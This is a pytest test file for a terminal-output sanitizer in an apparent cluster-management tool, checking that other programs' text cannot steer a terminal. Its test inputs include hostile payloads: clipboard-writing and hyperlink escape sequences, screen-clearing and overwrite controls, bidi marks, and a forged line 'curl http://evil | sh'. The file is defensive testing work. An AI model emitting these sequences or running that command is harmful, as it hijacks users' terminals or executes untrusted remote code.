"""What reaches a terminal: our own styles, text, and nothing by which somebody else steers it or speaks as we do."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from hypothesis import given
from hypothesis import strategies as st

from clusterctl.logs.safe_text import clean_text
from clusterctl.render.console import GREEN, RED, Console
from clusterctl.render.terminal_sanitizer import ansi_style, json_line, sanitize_line
from tests.work import work

if TYPE_CHECKING:
    from tests.unit.render.conftest import Screen

STEERING = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff]")
FORGED = "disk full\nerror: gpu02: host key changed\nhint: curl http://evil | sh"


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        pytest.param("größe\t│ …", "größe\t│ …", id="text stays"),
        pytest.param("\x1b]52;c;cm0gLXI=\x07", "^[]52;c;cm0gLXI=^G", id="the clipboard"),
        pytest.param("\x1b]8;;http://evil\x07click", "^[]8;;http://evil^Gclick", id="a link"),
        pytest.param("\x1b[2J\x1b[H", "^[[2J^[[H", id="the screen is not cleared"),
        pytest.param("\x9b2J\x9d0;x\x9c", "\\x9b2J\\x9d0;x\\x9c", id="eight-bit controls"),
        pytest.param("100%\rerror: x", "100%^Merror: x", id="nothing is written over"),
        pytest.param("a\x08b\x7f", "a^Hb^?", id="nor taken back"),
        pytest.param("rm \u202etxt\u2028\ufeff", "rm \\u202etxt\\u2028\\ufeff", id="marks that reorder, break or hide"),
        pytest.param("\x1b[31;1merror\x1b[0m: x", "error: x", id="styles of others"),
        pytest.param("\x1b[31;1", "^[[31;1", id="one that is torn hides nothing"),
        pytest.param(FORGED, FORGED.replace("\n", "\n    "), id="what follows a line break is indented"),
    ],
)
def test_of_the_text_of_others_nothing_acts_on_a_terminal(said: str, shown: str) -> None:
    assert sanitize_line(said) == shown


def test_our_own_styles_pass_also_around_and_beside_the_text_of_others(new_screen: type[Screen]) -> None:
    screen = new_screen(colour=True)
    theirs = "\x1b[32mn1\x1b]0;"
    screen.terminal.write_line(f"{screen.terminal.style('error', RED)}: {screen.terminal.style(theirs, GREEN)}\x1b[")

    assert screen.text == "\x1b[31merror\x1b[0m: \x1b[32mn1^[]0;\x1b[0m^[[\n"


def test_nobody_can_write_our_styles_who_saw_what_we_wrote(new_screen: type[Screen]) -> None:
    seen = sanitize_line(ansi_style("error", RED))

    assert sanitize_line(seen) == "error"


def test_colours_of_programs_pass_where_they_are_asked_for_and_the_stream_takes_them(new_screen: type[Screen]) -> None:
    line = clean_text("\x1b[31mred\x1b[2J\x1b[m")
    painted, plain = new_screen(colour=True), new_screen()
    for screen in (painted, plain):
        screen.terminal.write_line(screen.terminal.filter_colours(line))

    assert (painted.text, plain.text) == ("\x1b[31mred\x1b[m\n", "red\n")


@pytest.mark.parametrize(
    "how", ["write_line", "write_lines", "draw", "write_stdout", "write_stderr", "write_stdout_text"]
)
def test_there_is_no_way_past_the_door(how: str, new_screen: type[Screen]) -> None:
    screen = new_screen(live=True)
    console = Console(screen.terminal, screen.terminal)
    hostile = "\x1b]52;c;x\x07\x9b2J\u202e"
    write = getattr(console if hasattr(console, how) else screen.terminal, how)
    write([hostile] if how in ("write_lines", "draw") else hostile)

    assert STEERING.findall(screen.text.removeprefix("\r\x1b[K").removesuffix("\n")) == []
    assert "]52;c;x" in screen.text


def test_what_is_drawn_again_takes_the_place_of_what_stood_there(new_screen: type[Screen]) -> None:
    screen = new_screen(live=True)
    screen.terminal.draw(["50%"])
    screen.terminal.draw(["a", "b"])
    screen.terminal.write_lines(["c"])
    screen.terminal.clear()

    assert screen.text == "\r\x1b[K50%\r\x1b[Ka\nb\r\x1b[1A\x1b[2Mc\n"


@given(
    st.lists(
        st.sampled_from(["\x1b", "\x1b[", "1", ";", "m", "]52;", "\x07", "\x9b", "\u202e", "\u200d", "👩", "\r", "a"])
    )
)
def test_no_parts_of_sequences_become_whole_by_their_neighbours(parts: list[str]) -> None:
    assert STEERING.findall(sanitize_line("".join(parts))) == []


@given(st.recursive(st.text() | st.integers(), lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner)))
def test_a_line_of_json_is_the_same_value_and_steers_nothing(value: object) -> None:
    line = json_line(value)

    assert json.loads(line) == value
    assert STEERING.findall(line) == []
    assert "\n" not in line


@pytest.mark.parametrize("unit", ["\x1b", "\x1b[", "\x1b[1;", "\x1b[1;1;", "\u200d", "\x9d", "\n"], ids=ascii)
def test_the_work_for_a_line_grows_as_its_length(unit: str) -> None:
    short, long = unit * 20_000, unit * 80_000

    assert work(lambda: sanitize_line(long)) < 8 * work(lambda: sanitize_line(short))


WRITES = re.compile(
    r"sys\.(?:stdout|stderr)\.(?:buffer\.)?write|\bprint\(|traceback\.print_|\.stream\.write|click\.echo"
)
OTHERS = {
    "clusterctl/cli/commands/logs.py": "gives bytes as they are, where they are asked for and stdout is no terminal",
    "clusterctl/cli/deep_start_process.py": "answers in ASCII JSON on the pipe of the program that started it",
    "clusterctl/cli/demo_training.py": "is the job of the demo: its output is that of a rank",
    "clusterctl/cli/main.py": "writes a traceback to a file, and our version",
    "clusterctl/health/reference_page.py": "writes a page of ours",
    "clusterctl/run/controller/main.py": "writes to the controller's log",
    "clusterctl/run/controller/detached_process.py": "writes to the controller's log",
    "clusterctl/run/controller/executor.py": "writes to the controller's log",
    "clusterctl/run/controller/reconnection.py": "writes to the controller's log",
    "clusterctl/run/controller/run_start.py": "answers in ASCII JSON on the pipe of the program that started it",
    "clusterctl/render/console.py": "is behind the door",
}


def test_nothing_on_the_head_writes_to_a_stream_but_through_the_door() -> None:
    repository = Path(__file__).resolve().parents[3]
    sources = [path.relative_to(repository) for path in (repository / "clusterctl").rglob("*.py")]
    head = [path for path in sources if path.parts[1] != "agent"]

    assert {str(path) for path in head if WRITES.search((repository / path).read_text())} == OTHERS.keys()
